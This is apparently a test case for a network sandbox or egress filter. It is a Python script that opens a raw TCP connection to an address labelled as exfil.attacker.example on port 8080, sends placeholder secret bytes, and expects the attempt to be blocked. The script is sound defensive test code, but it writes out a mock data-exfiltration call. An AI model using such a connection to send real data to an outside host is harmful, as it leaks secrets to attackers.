# what: raw TCP straight to exfil.attacker.example's address, port 8080
# expect-denied: 198.18.1.66 8080 tcp unresolved_destination
# expect-stdout: ^BLOCKED
import socket

try:
    s = socket.create_connection(("198.18.1.66", 8080), timeout=10)
    s.sendall(b"\x00\x01secret-bytes\n")
    d = s.recv(100)
    print("LEAK:" if d else "BLOCKED: closed, nothing read", d)
except Exception as e:
    print("BLOCKED:", type(e).__name__, e)
